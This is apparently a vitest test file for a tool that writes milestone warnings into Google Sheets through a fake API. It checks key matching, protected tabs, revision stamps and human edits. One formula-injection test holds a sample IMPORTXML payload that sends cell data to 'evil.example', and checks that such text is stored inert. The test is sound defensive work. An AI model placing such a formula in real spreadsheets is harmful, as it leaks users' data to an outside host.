import { expect, test } from "vitest";
import type { Spreadsheet } from "../../../lib/ports/spreadsheet.ts";
import type { Written } from "../../fakes/google/new-workbook.ts";
import { publicationFor } from "./city.ts";
import { googleForTests, open, serialOf, stamps, workbookWith } from "./scene.ts";

const google = googleForTests();
const ALL = () => true;

const HEADER: readonly Written[] = ["项目编号", "节点序号", "节点名称"];
const ROWS: readonly (readonly Written[])[] = [
  ["P-1", 10, "开工"],
  ["P-1", 20, "封顶"],
  ["P-2", 3.1, "迁改"],
];

const milestones = (rows: readonly (readonly Written[])[] = ROWS) =>
  workbookWith(google(), [{ title: "节点", rows: [HEADER, ...rows], rowCount: 50 }]);

async function publishDay(book: Spreadsheet, day: number) {
  const snapshot = await book.read(ALL);
  return book.publish(publicationFor(snapshot, day), snapshot.revision);
}

/** The page, up to the last row that shows something. */
function seen(id: string, tab = "节点"): readonly (readonly string[])[] {
  const rows = google().human(id).see(tab);
  const holds = (text: string) => text !== "";
  const width = Math.max(...rows.map((row) => row.findLastIndex(holds))) + 1;
  return rows
    .slice(0, rows.findLastIndex((row) => row.some(holds)) + 1)
    .map((row) => Array.from({ length: width }, (_, at) => row[at] ?? ""));
}

const shown = (id: string, tab = "节点") => seen(id, tab).map((row) => row.join("|"));

const callsOf = (id: string) =>
  google()
    .calls.filter(({ spreadsheetId }) => spreadsheetId === id)
    .map(({ method }) => method.replace("spreadsheets.", ""));

const formulasIn = (id: string) =>
  google()
    .spreadsheets.get(id)!
    .sheets.flatMap(({ properties, rows }) =>
      rows.flatMap((row) =>
        row.flatMap((cell) => (cell.userEnteredValue?.formulaValue === undefined ? [] : [properties.title])),
      ),
    );

test("verdicts stand beside their rows, days as days, and a run is one reading and one batch", async () => {
  const id = milestones();
  await publishDay(open(google(), id), 1);
  expect(callsOf(id)).toEqual(["get", "batchUpdate"]);
  expect(shown(id)).toEqual([
    "项目编号|节点序号|节点名称|预警|当前时限|系统说明",
    "P-1|10|开工|绿|2026-07-01|P-1/10 第 1 天",
    "P-1|20|封顶|绿|2026-07-01|P-1/20 第 1 天",
    "P-2|3.1|迁改|红|2026-07-01|P-2/3.1 第 1 天",
  ]);
});

test("the next run with nothing new reads once and writes nothing", async () => {
  const id = milestones();
  const book = open(google(), id);
  await publishDay(book, 1);
  const snapshot = await book.read(ALL);
  const again = await book.publish(publicationFor(snapshot, 1), snapshot.revision);
  expect(again).toMatchObject({ cellsChanged: 0, revision: snapshot.revision });
  expect(callsOf(id)).toEqual(["get", "batchUpdate", "get"]);
});

test("a new day changes verdicts and not the formula", async () => {
  const id = milestones();
  const book = open(google(), id);
  await publishDay(book, 1);
  const result = await publishDay(book, 2);
  expect(result.rowsPublished).toEqual({ 节点: 3, "系统-节点": 3 });
  expect(shown(id)[1]).toBe("P-1|10|开工|红|2026-07-01|P-1/10 第 2 天");
  expect(formulasIn(id)).toEqual(["节点"]);
});

test("keys are found as typed (full width, 001 and 1, months that became days); what a lookup could mistake is not shown", async () => {
  const rows: Written[][] = [
    ["Ｐ－９", 10],
    ["001", 10],
    [1, 10],
    ["p-9a", 10],
    ["P-9A", 10],
    ["P-*", 10],
    ["P-9?", 10],
    ["~P", 10],
    [" P-7 ", 10],
    ["P-8", { date: serialOf("2026-05-01") }],
    ["P-8", "2026-06"],
    ["P-8", "46143"],
    ['a"b', 10],
    ["P¦t1", 10],
  ];
  const id = milestones(rows);
  await publishDay(open(google(), id), 1);
  const told = seen(id)
    .slice(1)
    .map((row) => row[5] ?? "");
  expect(told.map((text) => text.replace(" 第 1 天", ""))).toEqual([
    "P-9/10",
    "001/10",
    "1/10",
    "未匹配",
    "未匹配",
    "未匹配",
    "未匹配",
    "未匹配",
    "P-7/10",
    "P-8/2026-05",
    "P-8/2026-06",
    "P-8/46143",
    'a"b/10',
    "未匹配",
  ]);
  const snapshot = await open(google(), id).read(ALL);
  const again = open(google(), id);
  await again.read(ALL);
  expect(await again.publish(publicationFor(snapshot, 1), snapshot.revision)).toMatchObject({ cellsChanged: 0 });
});

test("a row typed after the run shows 未匹配, an empty row nothing, a total nothing", async () => {
  const id = milestones([...ROWS, ["合计"]]);
  const book = open(google(), id);
  await publishDay(book, 1);
  google()
    .human(id)
    .paste("节点", "A7", [["P-1", "40", "竣工"]]);
  expect(shown(id).slice(4)).toEqual(["合计|||||", "|||||", "P-1|40|竣工|未匹配|未匹配|未匹配"]);
  await publishDay(book, 1);
  expect(shown(id)[6]).toBe("P-1|40|竣工|绿|2026-07-01|P-1/40 第 1 天");
});

test("rows put in right below the header, above it and columns to the left of it move nothing out of line", async () => {
  const id = milestones();
  const book = open(google(), id);
  await publishDay(book, 1);
  const human = google().human(id);
  human.insertRows("节点", 2);
  human.paste("节点", "A2", [["P-2", "3.1", "重复"]]);
  human.edit({ kind: "insertColumn", tab: "节点", column: "A" });
  human.insertRows("节点", 1);
  expect(shown(id).slice(1, 4)).toEqual([
    "|项目编号|节点序号|节点名称|预警|当前时限|系统说明",
    "|P-2|3.1|重复|红|2026-07-01|P-2/3.1 第 1 天",
    "|P-1|10|开工|绿|2026-07-01|P-1/10 第 1 天",
  ]);
  const snapshot = await book.read(ALL);
  const moved = publicationFor(snapshot, 1, { headerRow: 2, keyColumns: [1, 2] });
  expect((await book.publish(moved, snapshot.revision)).rowsPublished).toEqual({ "系统-节点": 3 });
});

test("days are seen as days in every row a tab of ours grows by", async () => {
  const id = milestones();
  const book = open(google(), id);
  await publishDay(book, 1);
  const more = Array.from({ length: 40 }, (_, at) => ["P-8", String(at + 1), "验收"]);
  google().human(id).paste("节点", "A5", more);
  await publishDay(book, 2);
  const days = (): readonly string[] =>
    seen(id, "系统-节点")
      .slice(2)
      .map((row) => row[2]!);
  expect(days()).toHaveLength(43);
  expect(new Set(days())).toEqual(new Set(["2026-07-01"]));
});

test("a day that somebody turned into a figure is a day again", async () => {
  const id = milestones();
  const book = open(google(), id);
  await publishDay(book, 1);
  const { sheets } = google().spreadsheets.get(id)!;
  const cell = sheets.find(({ properties }) => properties.title === "系统-节点")!.rows[3]![2]!;
  Object.assign(cell, { userEnteredFormat: undefined });
  expect(shown(id, "系统-节点")[3]).toContain("46204");
  await publishDay(book, 2);
  expect(shown(id, "系统-节点")[3]).toContain("2026-07-01");
});

test("rows added at the grid's end are looked at from the next run on", async () => {
  const id = milestones();
  const book = open(google(), id);
  await publishDay(book, 1);
  google()
    .human(id)
    .paste("节点", "A52", [["P-3", "10", "验收"]]);
  await publishDay(book, 1);
  expect(shown(id)[51]).toBe("P-3|10|验收|绿|2026-07-01|P-3/10 第 1 天");
});

test("a key of which a part stands in a merged cell above is shown to nobody, not to the next row that looks like it", async () => {
  const id = milestones([
    ["P-1", 10],
    [null, 20],
  ]);
  const book = open(google(), id);
  const snapshot = await book.read(ALL);
  const publication = publicationFor(snapshot, 1);
  const rowKeys = new Map([
    [2, "P-1/10"],
    [3, "P-1/20"],
  ]);
  const values = new Map([...rowKeys.values()].map((key) => [key, ["绿", null, key]]));
  const columns = publication.columns.map((one) => ({ ...one, rowKeys, values }));
  await book.publish({ ...publication, columns }, snapshot.revision);
  expect(seen(id).map((row) => row[5])).toEqual(["系统说明", "P-1/10", "未匹配"]);
});

test("text that begins like a formula is text everywhere, and a key of that kind is found", async () => {
  const evil = '=IMPORTXML("http://evil.example/?"&A1,"//x")';
  const id = milestones([[{ formula: '="=1+"&"1"' }, 10, evil]]);
  const book = open(google(), id);
  const snapshot = await book.read(ALL);
  const publication = publicationFor(snapshot, 1);
  const columns = publication.columns.map((one) => ({ ...one, values: new Map([["=1+1/10", ["+1", null, evil]]]) }));
  const systemTabs = publication.systemTabs.map((tab) => ({ ...tab, rows: [["@a", "-1", null, evil]] }));
  await book.publish({ ...publication, columns, systemTabs }, snapshot.revision);
  expect(seen(id)[1]!.slice(3)).toEqual(["+1", "", evil]);
  expect(seen(id, "系统-节点")[2]!.slice(0, 4)).toEqual(["@a", "-1", "", evil]);
  expect(formulasIn(id)).toEqual(["节点", "节点"]);
});

test("our tabs are closed to people, who can still sort their own", async () => {
  const id = milestones();
  await publishDay(open(google(), id), 1);
  const human = google().human(id);
  expect(() => human.setCell("系统-节点", "B3", "绿")).toThrow(/protected/);
  expect(() => human.setCell("系统-对照", "B2", "绿")).toThrow(/protected/);
  human.sort("节点", "C");
  expect(
    shown(id)
      .slice(1)
      .map((row) => row.slice(0, 5)),
  ).toEqual(["P-1|2", "P-1|1", "P-2|3"]);
  expect(shown(id)[1]).toBe("P-1|20|封顶|绿|2026-07-01|P-1/20 第 1 天");
});

test("a cell typed into our columns stops the lookup: it is never overwritten, and all is well once it is gone", async () => {
  const id = milestones();
  const book = open(google(), id);
  await publishDay(book, 1);
  google().human(id).setCell("节点", "F3", "我的批注");
  expect(shown(id)[0]).toContain("#REF!");
  expect((await book.read(ALL)).unshown).toEqual([{ sheet: "节点", cell: "D1", inTheWay: "F3" }]);
  const result = await publishDay(book, 2);
  expect(result.rowsPublished).toEqual({ "系统-节点": 3 });
  expect(seen(id)[2]![5]).toBe("我的批注");
  google().human(id).setCell("节点", "F3", "");
  expect(shown(id)[2]).toBe("P-1|20|封顶|红|2026-07-01|P-1/20 第 2 天");
});

test("an edited lookup is put right, one replaced by pasted values is not touched", async () => {
  const id = milestones();
  const book = open(google(), id);
  await publishDay(book, 1);
  google().human(id).setCell("节点", "D1", "=VLOOKUP(A2,'系统-对照'!A:C,2,FALSE)");
  expect((await publishDay(book, 1)).cellsChanged).toBeGreaterThan(0);
  expect(shown(id)[3]).toBe("P-2|3.1|迁改|红|2026-07-01|P-2/3.1 第 1 天");
  const values = seen(id).map((row) => row.slice(3));
  google().human(id).paste("节点", "D1", values);
  const before = google().human(id).typed("节点");
  await publishDay(book, 3);
  expect(google().human(id).typed("节点")).toEqual(before);
  expect((await book.read(ALL)).unshown).toEqual([{ sheet: "节点", cell: "", inTheWay: "" }]);
});

test("of two runs that read the same stamp one writes, the other reads again", async () => {
  const id = milestones();
  const [a, b] = [open(google(), id), open(google(), id)];
  const [first, second] = [await a.read(ALL), await b.read(ALL)];
  await a.publish(publicationFor(first, 1), first.revision);
  const late = b.publish(publicationFor(second, 2), second.revision);
  await expect(late).rejects.toMatchObject({ code: "workbook-changed", retryable: true });
  expect(shown(id)[1]).toContain("第 1 天");
});

test("a few stamps stay, so that a writer that slept is still told from one in time", async () => {
  const id = milestones();
  const book = open(google(), id);
  const sleeper = open(google(), id);
  await publishDay(book, 1);
  const old = await sleeper.read(ALL);
  for (let day = 2; day <= 9; day++) await publishDay(book, day);
  await expect(sleeper.publish(publicationFor(old, 99), old.revision)).rejects.toMatchObject({
    code: "workbook-changed",
  });
  for (let day = 10; day <= 20; day++) await publishDay(book, day);
  expect(stamps(google(), id)).toBeLessThanOrEqual(12);
});

test("a copy of a live spreadsheet into a file is refused with its reason", async () => {
  const id = milestones();
  const book = open(google(), id);
  const snapshot = await book.read(ALL);
  const copy = book.publish(publicationFor(snapshot, 1), snapshot.revision, { out: "x.xlsx" });
  await expect(copy).rejects.toMatchObject({ code: "workbook-unsupported", facts: { reason: "out-of-google" } });
});
